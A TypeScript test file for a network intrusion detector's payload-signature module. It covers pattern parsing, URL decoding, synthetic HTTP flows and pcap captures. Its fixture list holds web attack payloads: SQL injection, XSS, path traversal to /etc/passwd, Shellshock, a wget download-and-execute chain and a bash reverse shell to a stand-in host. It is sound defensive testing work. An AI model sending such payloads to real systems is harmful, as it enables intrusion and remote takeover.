/**
 * payload_signature: the pattern file format and its errors, URL decoding,
 * the shipped patterns on attack and benign text, synthetic HTTP flows, and
 * the corpus (SQL injection and XSS captures found, benign captures silent).
 */
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';

import { type Alert, Capture, DEFAULT_DETECTION, DetectionSession, toEve } from '@mommynet/core';
import { tcpSession } from '@mommynet/core/synth';
import { describe, expect, it } from 'vitest';

import { isBinary, PayloadSignatureDetector } from '../packages/core/src/detect/detectors/payload-signature.js';
import { anyOf, loadSignatures, parseSignatures, SHIPPED_SIGNATURES, type Signature, urlDecode } from '../packages/core/src/detect/signatures.js';
import { BENIGN_CAPTURES, corpusCapture, haveCorpus, REPO_ROOT } from './support/corpus.js';
import { writeCapture } from './support/synthetic.js';

const tmp = mkdtempSync(join(tmpdir(), 'mommy-sig-'));
const enc = new TextEncoder();

async function detect(path: string, options: ConstructorParameters<typeof PayloadSignatureDetector>[1] = {}): Promise<Alert[]> {
  const session = new DetectionSession({ detectors: [new PayloadSignatureDetector(DEFAULT_DETECTION, options)] });
  for await (const batch of Capture.openFile(path)) session.observe(batch);
  return session.finish();
}

/** One HTTP-like exchange per request, each its own connection. */
function http(requests: string[], o: { client?: string; server?: string; port?: number; response?: string } = {}): string {
  const frames = requests.flatMap((req, i) =>
    tcpSession({
      client: o.client ?? '10.1.0.5',
      server: o.server ?? '10.1.0.80',
      clientPort: 40000 + i,
      serverPort: o.port ?? 80,
      exchanges: [
        { fromClient: true, payload: enc.encode(req) },
        { fromClient: false, payload: enc.encode(o.response ?? 'HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n') },
      ],
    }),
  );
  return writeCapture(frames);
}

const get = (target: string) => `GET ${target} HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: Mozilla/5.0\r\n\r\n`;

describe('pattern file', () => {
  it('reads name<TAB>regex lines, skipping comments and blank lines', () => {
    const sigs = parseSignatures('# comment\n\n  # indented comment\nsqli-union\t\\bunion\\s+select\\b\r\nxss-x\t\t<script\n', 'p.txt');
    expect(sigs.map((s) => [s.name, s.category, s.pattern, s.line])).toEqual([
      ['sqli-union', 'sqli', '\\bunion\\s+select\\b', 4],
      ['xss-x', 'xss', '<script', 5],
    ]);
    expect(sigs[0]!.regex.test('1 UNION  Select 2')).toBe(true); // case-insensitive
  });

  it.each([
    ['sqli-union \\bunion', /p\.txt:2: no tab/],
    ['sqliunion\tunion', /p\.txt:2: bad name 'sqliunion'/],
    ['Sqli-x\tunion', /p\.txt:2: bad name/],
    ['sqli-x\t', /p\.txt:2: no regex after 'sqli-x'/],
    ['sqli-x\t(unclosed', /p\.txt:2: regex of 'sqli-x' does not compile/],
    ['xss-a\tb', /p\.txt:2: 'xss-a' already defined on line 1/],
  ])('refuses %j with the file and line', (line, message) => {
    expect(() => parseSignatures(`xss-a\ta\n${line}\n`, 'p.txt')).toThrow(message);
  });

  it('names an unreadable file', () => {
    expect(() => loadSignatures(join(tmp, 'missing.txt'))).toThrow(/cannot read signature file .*missing\.txt/);
  });

  it('ships a valid file, found from the built package too', async () => {
    expect(SHIPPED_SIGNATURES).toBe(join(REPO_ROOT, 'packages', 'core', 'data', 'signatures.txt'));
    const categories = new Set(loadSignatures().map((s) => s.category));
    expect([...categories].sort()).toEqual(['cmdi', 'sqli', 'traversal', 'xss']);
    const dist = join(REPO_ROOT, 'packages', 'core', 'dist', 'detect', 'signatures.js');
    const built = (await import(pathToFileURL(dist).href)) as typeof import('../packages/core/src/detect/signatures.js');
    expect(built.SHIPPED_SIGNATURES).toBe(SHIPPED_SIGNATURES);
    expect(built.loadSignatures().length).toBe(loadSignatures().length);
  });
});

describe('URL decoding', () => {
  it.each([
    ['a+b%20c', 'a b c'],
    ['%27%2B1', "'+1"], // no escapes left after one level: the decoded '+' stays
    ['%2527', "'"], // two levels
    ['%252527', '%27'], // not three
    ['%zz%4', '%zz%4'],
    ['%3Cscript%3E', '<script>'],
  ])('%s -> %s', (input, output) => {
    expect(urlDecode(input)).toBe(output);
  });
});

/** Attack payloads and the pattern each must match. */
const ATTACKS: [string, string][] = [
    ["GET /item?id=1'+UNION+ALL+SELECT+null,version()--+- HTTP/1.1", 'sqli-union'],
    ['GET /item?id=1%2527%2520union%2520select%25201 HTTP/1.1', 'sqli-union'], // double-encoded
    ['GET /item?id=1/**/UnIoN/**/SeLeCt/**/1 HTTP/1.1', 'sqli-union'],
    ["GET /login?user=admin'+OR+'1'='1 HTTP/1.1", 'sqli-tautology'],
    ["GET /login?user=x'%20or%201=1-- HTTP/1.1", 'sqli-tautology'],
    ["GET /login?user=admin'-- HTTP/1.1", 'sqli-comment_truncation'],
    ["GET /login?user=admin'%23 HTTP/1.1", 'sqli-comment_truncation'],
    ["GET /p?id=1';DROP TABLE users-- HTTP/1.1", 'sqli-stacked_query'],
    ["GET /p?id=1'+AND+SLEEP(5)-- HTTP/1.1", 'sqli-time_blind'],
    ["GET /p?id=1;WAITFOR DELAY '0:0:5'-- HTTP/1.1", 'sqli-time_blind'],
    ['GET /p?id=1+and+extractvalue(1,concat(0x7e,version())) HTTP/1.1', 'sqli-error_based'],
    ['GET /p?q=<script>alert(document.domain)</script> HTTP/1.1', 'xss-script_exec'],
    ['GET /p?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E HTTP/1.1', 'xss-event_handler'],
    ['GET /p?q=%3Cscript+src%3D%2F%2Fevil.example%2Fx.js%3E HTTP/1.1', 'xss-script_in_request'],
    ['GET /p?next=javascript:alert(1) HTTP/1.1', 'xss-javascript_uri'],
    ['GET /ping?ip=127.0.0.1%3Bcat+/etc/passwd HTTP/1.1', 'cmdi-separator'],
    ['GET /ping?ip=127.0.0.1|whoami HTTP/1.1', 'cmdi-separator'],
    ['GET /ping?ip=127.0.0.1;id&Submit=Submit HTTP/1.1', 'cmdi-separator'],
    ['GET /ping?ip=$(wget+http://203.0.113.9/x) HTTP/1.1', 'cmdi-subshell'],
    ['GET /cgi-bin/status HTTP/1.1\r\nUser-Agent: () { :; }; /bin/bash -c id\r\n', 'cmdi-shellshock'],
    ['GET /x?c=cd+/tmp;wget+http://203.0.113.9/bins.sh;chmod+777+bins.sh HTTP/1.1', 'cmdi-download_exec'],
    ['GET /x?c=bash+-i+>%26+/dev/tcp/203.0.113.9/4444+0>%261 HTTP/1.1', 'cmdi-reverse_shell'],
    ['GET /download?file=../../../../etc/passwd HTTP/1.1', 'traversal-sensitive_file'],
    ['GET /download?file=..%252f..%252f..%252fwindows%252fwin.ini HTTP/1.1', 'traversal-sensitive_file'],
    ['GET /static/..%c0%af..%c0%afboot.ini HTTP/1.1', 'traversal-overlong_utf8'],
    ['GET /view?page=../../config.php HTTP/1.1', 'traversal-dotdot_in_request'],
    ['GET /view?page=php://filter/convert.base64-encode/resource=index HTTP/1.1', 'traversal-php_wrapper'],
];

/** Text the patterns must leave alone (the SQL line matches as a payload; see the port test). */
const BENIGN = [
    'GET /search?q=union+station+selection HTTP/1.1',
    "GET /search?q=O'Reilly+or+something HTTP/1.1",
    'GET /search?q=rock+%26+roll;+best+of HTTP/1.1',
    'GET /index.html HTTP/1.1\r\nCookie: a=1; id=42; theme=dark\r\n',
    'HTTP/1.1 200 OK\r\n\r\n<html><head><script src="/app.js"></script><a href="#" onclick="toggle()">',
    '<script>document.write("<p>hello</p>")</script> var x = "a" and y',
    'SELECT name FROM users WHERE id = 1 UNION SELECT 2', // SQL as a protocol payload: see the port test
    'GET /img/../logo.png HTTP/1.1',
    'curl -fsSL https://get.example/install.sh -o install.sh',
    'for (const id of ids) { total += 1; } return id;',
];

describe('shipped patterns', () => {
  const sigs = loadSignatures();
  const first = (text: string) => {
    const t = urlDecode(text);
    return sigs.filter((s) => s.regex.test(t)).map((s) => s.name);
  };

  it.each(ATTACKS)('%s: %s', (text, name) => {
    expect(first(text)).toContain(name);
  });

  it.each(BENIGN)('leaves benign text alone: %j', (text) => {
    const hits = first(text);
    if (text.startsWith('SELECT')) expect(hits).toEqual(['sqli-union']);
    else expect(hits).toEqual([]);
  });
});

describe('anyOf: one scan for a category', () => {
  const sigs = loadSignatures();
  const texts = [...ATTACKS.map(([text]) => text), ...BENIGN].map(urlDecode);

  it('rules a text out exactly when no pattern of the category matches it', () => {
    for (const category of new Set(sigs.map((s) => s.category))) {
      const group = sigs.filter((s) => s.category === category);
      const { regex, leftOut } = anyOf(group);
      expect(regex, category).toBeDefined();
      for (const text of texts) {
        const some = group.some((s) => s.regex.test(text));
        expect(regex!.test(text) || leftOut.some((s) => s.regex.test(text)), `${category}: ${text}`).toBe(some);
      }
    }
  });

  it('leaves out patterns with back-references, and joins none whose group names clash', () => {
    const [plain, numbered, named] = parseSignatures("a-x\t\\bfoo\\b\na-y\t(['\"])x\\1\na-z\t(?<q>')y\\k<q>\n", 'p.txt');
    const joined = anyOf([plain!, numbered!, named!]);
    expect(joined.leftOut).toEqual([numbered, named]);
    expect([joined.regex!.test('a FOO b'), joined.regex!.test("'x'")]).toEqual([true, false]);
    const clash = parseSignatures('b-x\t(?<n>a)1\nb-y\t(?<n>b)2\n', 'p.txt');
    expect(anyOf(clash)).toEqual({ regex: undefined, leftOut: clash });
  });
});

describe('on synthetic flows', () => {
  it('alerts once per (source, destination, pattern) episode, with the pattern and the matched text', async () => {
    const attack = get("/item?id=1'+UNION+SELECT+user,password+FROM+users--+-");
    const alerts = await detect(http([attack, attack, attack, get('/index.html')]));
    expect(alerts).toHaveLength(1);
    const a = alerts[0]!;
    expect(a).toMatchObject({ category: 'payload_signature', detector: 'payload_signature', severity: 2, src_ip: '10.1.0.5', dst_ip: '10.1.0.80', dst_port: 80, proto: 6 });
    expect(a.details).toMatchObject({ signature: 'sqli-union', signature_category: 'sqli', match: 'UNION SELECT', direction: 'fwd', flows: 3 });
    expect(a.details.excerpt).toContain("1' UNION SELECT user,password");
    expect(a.details.pattern).toBe(loadSignatures().find((s) => s.name === 'sqli-union')!.pattern);
    expect((a.details.sample_flows as string[]).length).toBe(3);
    expect(toEve(a)).toMatchObject({ event_type: 'alert', alert: { category: 'payload_signature', severity: 2 } });
  });

  it('does not match binary payloads (more than a quarter of the bytes not text), and still matches text with a few', async () => {
    const attack = enc.encode("GET /item?id=1'+UNION+SELECT+1-- HTTP/1.1\r\n\r\n");
    const withBinary = (share: number) => {
      const odd = Math.ceil((attack.length * share) / (1 - share));
      return Uint8Array.from([...attack, ...Array.from({ length: odd }, (_, i) => 0x80 + (i % 100))]);
    };
    expect(isBinary(attack)).toBe(false);
    expect(isBinary(withBinary(0.2))).toBe(false);
    expect(isBinary(withBinary(0.3))).toBe(true);
    expect(isBinary(Uint8Array.of(0x16, 0x03, 0x01, 0x02, 0x00, 0x01, 0x00, 0x01))).toBe(true); // a TLS ClientHello's start
    const session = (payload: Uint8Array, port: number) =>
      tcpSession({ client: '10.1.0.5', server: '10.1.0.80', clientPort: port, serverPort: 80, exchanges: [{ fromClient: true, payload }] });
    const alerts = await detect(writeCapture([...session(withBinary(0.2), 40001), ...session(withBinary(0.3), 40002)]));
    expect(alerts).toHaveLength(1);
    expect(alerts[0]!.details).toMatchObject({ signature: 'sqli-union', flows: 1 });
  });

  it('keeps one alert per pattern, per category the first pattern in file order', async () => {
    // Both sqli-union and sqli-comment_truncation would match: the first one counts; xss separately.
    const alerts = await detect(http([get("/p?id=x'--+&q=1'+union+select+1&r=<script>alert(1)</script>"), get('/p?f=../../../etc/passwd')]));
    expect(alerts.map((a) => [a.details.signature, a.severity]).sort()).toEqual([
      ['sqli-union', 2],
      ['traversal-sensitive_file', 3],
      ['xss-script_exec', 2],
    ]);
  });

  it('reports the sender of the matching bytes as the source (reverse direction)', async () => {
    const alerts = await detect(http([get('/')], { response: 'HTTP/1.1 200 OK\r\n\r\n<script>alert(1)</script>' }));
    expect(alerts).toHaveLength(1);
    expect(alerts[0]).toMatchObject({ src_ip: '10.1.0.80', dst_ip: '10.1.0.5', dst_port: 40000 });
    expect(alerts[0]!.details).toMatchObject({ signature: 'xss-script_exec', direction: 'rev' });
  });

  it('does not read SQL sent to a database server as injection', async () => {
    const sql = 'SELECT id FROM a UNION SELECT id FROM b; -- report';
    expect(await detect(http([sql], { port: 5432 }))).toEqual([]);
    expect((await detect(http([sql], { port: 8080 }))).map((a) => a.details.signature)).toEqual(['sqli-union']);
  });

  it('uses the pattern files given', async () => {
    const file = join(tmp, 'own.txt');
    writeFileSync(file, '# ours\nleak-token\tsecret_token=\\w+\n');
    const alerts = await detect(http([get('/?secret_token=abc')]), { files: [file] });
    expect(alerts.map((a) => [a.details.signature, a.details.match, a.severity])).toEqual([['leak-token', 'secret_token=abc', 3]]);
    const sigs: Signature[] = parseSignatures('xss-own\tonmouseover', 'inline');
    expect(await detect(http([get('/?q=onmouseover')]), { signatures: sigs })).toHaveLength(1);
    expect(() => new PayloadSignatureDetector(DEFAULT_DETECTION, { files: [join(tmp, 'nope.txt')] })).toThrow(/nope\.txt/);
  });
});


describe.skipIf(!haveCorpus)('on the corpus', () => {
  it('finds the DVWA UNION SELECT (the capture starts mid-stream)', async () => {
    const path = corpusCapture('ndpi_sql_injection.pcap');
    if (!path) return;
    const alerts = await detect(path);
    expect(alerts).toHaveLength(1);
    expect(alerts[0]).toMatchObject({ src_ip: '192.168.3.109', dst_ip: '192.168.3.107', dst_port: 80, severity: 2 });
    expect(alerts[0]!.details).toMatchObject({ signature: 'sqli-union', match: 'UNION SELECT' });
  });

  it('finds the URL-encoded <script>alert(1)</script>', async () => {
    const path = corpusCapture('ndpi_xss.pcap');
    if (!path) return;
    const alerts = await detect(path);
    expect(alerts).toHaveLength(1);
    expect(alerts[0]).toMatchObject({ src_ip: '192.168.3.109', dst_ip: '192.168.3.107', dst_port: 80, severity: 2 });
    expect(alerts[0]!.details).toMatchObject({ signature: 'xss-script_exec', match: '<script>alert(' });
  });

  it.each(BENIGN_CAPTURES)(
    'benign %s raises nothing',
    async (name) => {
      const path = corpusCapture(name);
      if (!path) return;
      expect(await detect(path)).toEqual([]);
    },
  );
});

it('the sample capture raises nothing', async () => {
  expect(await detect(join(REPO_ROOT, 'datasets', 'sample', 'demo.pcap'))).toEqual([]);
});
